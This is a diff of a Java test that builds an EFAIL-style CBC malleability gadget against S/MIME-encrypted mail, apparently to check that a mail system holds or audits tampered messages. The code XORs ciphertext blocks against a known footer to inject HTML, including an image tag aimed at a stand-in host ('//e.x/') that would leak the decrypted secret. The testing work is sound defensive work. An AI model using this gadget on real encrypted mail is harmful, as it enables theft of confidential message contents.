@@ -7,13 +7,11 @@ import java.io.ByteArrayOutputStream;
 import java.util.List;
 import java.util.Optional;
 import java.util.stream.Stream;
-import org.bouncycastle.asn1.ASN1OctetString;
 import org.bouncycastle.asn1.ASN1Set;
 import org.bouncycastle.asn1.DEROctetString;
 import org.bouncycastle.asn1.cms.ContentInfo;
 import org.bouncycastle.asn1.cms.EncryptedContentInfo;
 import org.bouncycastle.asn1.cms.EnvelopedData;
-import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
@@ -54,8 +52,8 @@ class EfailGadgetTest {
 
             assertThat(road.sent()).hasSize(1);
             RecordingDelivery.Sent sent = road.sent().getFirst();
-            assertThat(sent.octets()).isEqualTo(message);
-            assertThat(sent.unit()).isInstanceOf(Sendable.Untouched.class);
+            assertThat(recipient.equals(HELD) ? sent.octets() : SealedCopy.attached(sent.octets()))
+                    .isEqualTo(message);
             assertThat(sent.recipients()).containsExactly(recipient);
             assertThat(road.audited(done -> done.decision().reason()))
                     .containsExactly(
@@ -116,39 +114,37 @@ class EfailGadgetTest {
     }
 
     private static ContentInfo sealed() throws Exception {
-        String message = SpoofForge.FROM_BOB + "Content-Type: text/html\r\n\r\n<p>" + SECRET
-                + ", which only Alice may know</p>\r\n";
+        String message = SpoofForge.FROM_BOB + TEXT + FOOTER.repeat(5);
         return ContentInfo.getInstance(SealedCopy.cms(SealedCopy.encrypt(CBC, message, Parties.ALICE)));
     }
 
-    // The text of the first block is known. A block before it that differs from the IV by that text and by another one
-    // turns it into the other text. The block before decrypts to random octets. The second block, with the end of the
-    // header section, stays.
+    // The text of the footer is known. A block before one of its blocks that differs from the one that stood there by
+    // that text and by another one turns it into the other text. The block before decrypts to random octets, as does
+    // the one behind. The attacker moves the blocks, since a copy of one would be found.
     private static byte[] withGadget() throws Exception {
         ContentInfo info = sealed();
         EnvelopedData data = EnvelopedData.getInstance(info.getContent());
         EncryptedContentInfo encrypted = data.getEncryptedContentInfo();
-        byte[] iv = ASN1OctetString.getInstance(
-                        encrypted.getContentEncryptionAlgorithm().getParameters())
-                .getOctets();
         byte[] blocks = encrypted.getEncryptedContent().getOctets();
-        byte[] known = TestRoad.octets("Content-Type: te");
+        byte[] known = TestRoad.octets(FOOTER);
         ByteArrayOutputStream changed = new ByteArrayOutputStream();
         changed.write(blocks, 0, 32);
+        int at = TEXT.length();
         for (String text : List.of("<i>             ", "</i>            ", "<b>             ", IMAGE)) {
             byte[] before = new byte[16];
             byte[] wanted = TestRoad.octets(text);
             for (int i = 0; i < before.length; i++) {
-                before[i] = (byte) (iv[i] ^ known[i] ^ wanted[i]);
+                before[i] = (byte) (blocks[at - 16 + i] ^ known[i] ^ wanted[i]);
             }
             changed.writeBytes(before);
-            changed.write(blocks, 0, 16);
+            changed.write(blocks, at, 16);
+            at += 16;
         }
-        changed.write(blocks, 16, blocks.length - 16);
+        changed.write(blocks, 32, TEXT.length() - 32);
+        changed.write(blocks, at, blocks.length - at);
         EncryptedContentInfo other = new EncryptedContentInfo(
                 encrypted.getContentType(),
-                new AlgorithmIdentifier(
-                        encrypted.getContentEncryptionAlgorithm().getAlgorithm(), new DEROctetString(iv)),
+                encrypted.getContentEncryptionAlgorithm(),
                 new DEROctetString(changed.toByteArray()));
         return mail(new ContentInfo(
                 info.getContentType(), new EnvelopedData(null, data.getRecipientInfos(), other, (ASN1Set) null)));
@@ -161,4 +157,8 @@ class EfailGadgetTest {
     }
 
     private static final String IMAGE = "<img src=\"//e.x/";
+    // The header section ends within the second block, and whole blocks end before the footer.
+    private static final String TEXT =
+            "Content-Type: text/html\r\n\r\n<p>Dear Alice,\r\nhere it is: " + SECRET + "\r\nYours, Bob Builder</p>\r\n";
+    private static final String FOOTER = "--the footer--\r\n";
 }
